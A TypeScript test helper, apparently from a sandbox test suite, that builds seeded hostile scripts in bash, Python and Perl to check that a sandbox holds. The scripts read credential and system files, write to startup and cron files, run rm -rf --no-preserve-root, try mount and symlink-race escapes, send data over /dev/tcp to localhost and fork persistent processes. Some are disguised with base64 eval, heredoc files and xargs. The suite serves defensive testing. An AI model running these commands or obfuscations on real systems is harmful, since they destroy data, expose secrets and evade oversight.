/**
 * Hostile scripts from families: a way in (interpreter), something to do, something to do it to, and a disguise. One seed
 * gives one list. A script prints BREACH when it got somewhere; what it broke is looked at from outside.
 */
import { seeded } from "../helpers/seeded.ts";

export type Script = { readonly name: string; readonly script: string };

/** Places that are none of the command's business. $NAME is set by the runner. */
const targets = [
  "$OUT/secret",
  "$OUT/new",
  "$OUT",
  "$STATE/x",
  "$WORK/link/secret",
  "$WORK/link/new",
  "/proc/self/root$OUT/secret",
  "/proc/1/root$OUT/new",
  "/proc/$HOST/root$OUT/secret",
  "/proc/$HOST/cwd/package.json",
  "$WORK/../outside/secret",
  "$WORK/../../../../../$OUT/new",
  "/etc/passwd",
  "/etc/ld.so.preload",
  "/usr/bin/cowork-attack",
  "/root/.bashrc",
  "/home/user/.ssh/authorized_keys",
  "/var/spool/cron/root",
  "/proc/sys/kernel/core_pattern",
  "/proc/sysrq-trigger",
  "/sys/fs/cgroup/cgroup.procs",
  "/dev/sda",
  "/dev/vda",
  "$WORK/.env",
  "$WORK/sub/server.key",
  "$WORK/.cowork/note",
  "$WORK/.cowork",
] as const;

type Verb = {
  readonly name: string;
  readonly bash: (at: string) => string;
  readonly python: (at: string) => string;
  readonly perl: (at: string) => string;
};

const secret = (read: string): string => `if ${read} 2>/dev/null | grep -aq TOKEN; then echo BREACH read; fi`;
/** A place that is only the box's own (its private /etc, its masked names) may look written; the world outside is compared. */
const verbs: readonly Verb[] = [
  {
    name: "read",
    bash: (at) => secret(`cat "${at}"`),
    python: (at) =>
      `import os\ntry:\n if b"TOKEN" in open(os.path.expandvars("${at}"),"rb").read(4096): print("BREACH read")\nexcept OSError: pass`,
    perl: (at) => `open(my $f, "<", "${at}") or exit; local $/; print "BREACH read" if <$f> =~ /TOKEN/;`,
  },
  {
    name: "write",
    bash: (at) =>
      `(echo hostile > "${at}") 2>/dev/null; (echo hostile >> "${at}") 2>/dev/null; truncate -s 0 "${at}"; true`,
    python: (at) =>
      `import os\nfor m in ("w","a","r+"):\n try: open(os.path.expandvars("${at}"),m).write("hostile")\n except OSError: pass`,
    perl: (at) => `for my $m (">", ">>", "+<") { open(my $f, $m, "${at}") or next; print $f "hostile"; close $f; }`,
  },
  {
    name: "remove",
    bash: (at) => `rm -rf --no-preserve-root "${at}"; unlink "${at}"; rmdir "${at}"; true`,
    python: (at) =>
      `import os,shutil\np=os.path.expandvars("${at}")\nshutil.rmtree(p,ignore_errors=True)\ntry: os.remove(p)\nexcept OSError: pass`,
    perl: (at) => `unlink "${at}"; rmdir "${at}"; rename "${at}", "/scratch/taken";`,
  },
  {
    name: "rename",
    bash: (at) => `mv "${at}" "${at}.bak"; mv "$WORK/a.txt" "${at}"; mv -T "$WORK/sub" "${at}"; true`,
    python: (at) =>
      `import os\np=os.path.expandvars("${at}")\nfor a,b in ((p,p+".bak"),(os.environ["WORK"]+"/a.txt",p)):\n try: os.rename(a,b)\n except OSError: pass`,
    perl: (at) => `rename "${at}", "${at}.bak"; rename "$ENV{WORK}/a.txt", "${at}";`,
  },
  {
    name: "link",
    bash: (at) =>
      `ln -f "${at}" hardened; ln -sfn "${at}" soft; ${secret("cat hardened soft")}; (echo hostile > soft) 2>/dev/null; true`,
    python: (at) =>
      `import os\np=os.path.expandvars("${at}")\nfor f,n in ((os.link,"h"),(os.symlink,"s")):\n try:\n  f(p,n)\n  if "TOKEN" in open(n).read(): print("BREACH link")\n  open(n,"a").write("hostile")\n except (OSError,UnicodeDecodeError): pass`,
    perl: (at) => `link "${at}", "h2"; symlink "${at}", "s2"; open(my $f, ">>", "s2") and print $f "hostile";`,
  },
  {
    name: "permissions",
    bash: (at) =>
      `chmod -R 777 "${at}"; chown -R 0:0 "${at}"; touch -d 2001-01-01 "${at}"; setfattr -n user.x -v y "${at}"; true`,
    python: (at) =>
      `import os\np=os.path.expandvars("${at}")\nfor f in (lambda: os.chmod(p,0o6777), lambda: os.chown(p,0,0), lambda: os.utime(p,(1,1))):\n try: f()\n except OSError: pass`,
    perl: (at) => `chmod 06777, "${at}"; chown 0, 0, "${at}"; utime 1, 1, "${at}";`,
  },
  {
    name: "mount over",
    bash: (at) =>
      `mount --bind "$WORK" "${at}" && echo BREACH mount; mount -t tmpfs x "${at}" && echo BREACH mount; umount -l "${at}" && echo BREACH umount; unshare -Urm mount --bind "$WORK" "${at}" && echo BREACH unshare; true`,
    python: (at) =>
      `import ctypes,os\nl=ctypes.CDLL(None)\np=os.path.expandvars("${at}").encode()\nif l.mount(os.environ["WORK"].encode(),p,None,4096,None)==0 or l.umount2(p,2)==0: print("BREACH mount")`,
    perl: (at) => `system("mount", "--bind", $ENV{WORK}, "${at}") == 0 and print "BREACH mount";`,
  },
  {
    name: "race",
    bash: (at) =>
      `for i in $(seq 20); do ln -sfn "${at}" spin; mv -T spin sub 2>/dev/null; rm -rf sub; mkdir sub; done; ${secret("cat spin")}; true`,
    python: (at) =>
      `import os\np=os.path.expandvars("${at}")\nfor i in range(50):\n try:\n  os.symlink(p,"r%d"%i); os.rename("r%d"%i,"a.txt")\n  if "TOKEN" in open("a.txt").read(): print("BREACH race")\n except (OSError,UnicodeDecodeError): pass`,
    perl: (at) => `for my $i (1..30) { symlink "${at}", "p$i"; rename "p$i", "a.txt"; }`,
  },
  {
    name: "send",
    bash: (at) =>
      `(cat "${at}" >/dev/tcp/127.0.0.1/$PORT) 2>/dev/null && echo BREACH sent; (echo x >/dev/udp/127.0.0.1/$UDP) 2>/dev/null; true`,
    python: (at) =>
      `import os,socket\nfor h in ("127.0.0.1","localhost","::1"):\n try:\n  socket.create_connection((h,int(os.environ["PORT"])),1).send(b"${at}"); print("BREACH sent")\n except OSError: pass`,
    perl: (at) =>
      `use IO::Socket::INET; my $s = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => $ENV{PORT}, Timeout => 1) and print "BREACH sent ${at}";`,
  },
  {
    name: "stay",
    bash: (at) =>
      `(setsid nohup bash -c 'while :; do cat "${at}" | grep -a TOKEN; sleep 1; done' >/dev/null 2>&1 &); true`,
    python: (at) =>
      `import os,time\nif os.fork()==0:\n os.setsid()\n if os.fork()==0:\n  time.sleep(300); open(os.path.expandvars("${at}"),"a")\n os._exit(0)`,
    perl: () => `use POSIX "setsid"; unless (fork) { setsid; unless (fork) { sleep 300; } exit; }`,
  },
];

const interpreters = ["bash", "python", "perl"] as const;

/** Ways to hide what is done from anybody who reads the command. */
const disguises: readonly { readonly name: string; readonly wrap: (script: string) => string }[] = [
  { name: "plain", wrap: (script) => script },
  { name: "base64", wrap: (script) => `eval "$(echo ${Buffer.from(script).toString("base64")} | base64 -d)"` },
  { name: "in a file", wrap: (script) => `cat >"$SCRATCH/run$$" <<'HIDDEN'\n${script}\nHIDDEN\nbash "$SCRATCH/run$$"` },
  { name: "in the background", wrap: (script) => `(${script}\n) & wait` },
  { name: "after cd", wrap: (script) => `cd / ; cd "$WORK"/sub/.. ; ${script}` },
  { name: "through xargs", wrap: (script) => `printf '%s\\0' bash -c ${quoted(script)} | xargs -0 env` },
];

const quoted = (text: string): string => `'${text.replaceAll("'", "'\\''")}'`;

function scriptOf(verb: Verb, interpreter: (typeof interpreters)[number], target: string): string {
  if (interpreter === "bash") return verb.bash(target);
  if (interpreter === "python") return `/usr/bin/python3 -c ${quoted(verb.python(target))}`;
  return `/usr/bin/perl -e ${quoted(verb.perl(target.replace(/\$([A-Z]+)/g, "$$ENV{$1}")))}`;
}

/** `count` different scripts, every verb with every interpreter among them. */
export function hostileScripts(seed: number, count: number): readonly Script[] {
  const all = verbs.flatMap((verb) =>
    interpreters.flatMap((interpreter) =>
      targets.map((target) => ({
        name: `${interpreter}: ${verb.name} ${target}`,
        script: scriptOf(verb, interpreter, target),
      })),
    ),
  );
  const next = seeded(seed);
  const drawn = all.map((one) => ({ one, key: next() })).sort((a, b) => a.key - b.key);
  return drawn.slice(0, count).map(({ one }) => {
    const disguise = disguises[Math.floor(next() * disguises.length)] ?? disguises[0];
    return disguise ? { name: `${one.name} (${disguise.name})`, script: disguise.wrap(one.script) } : one;
  });
}
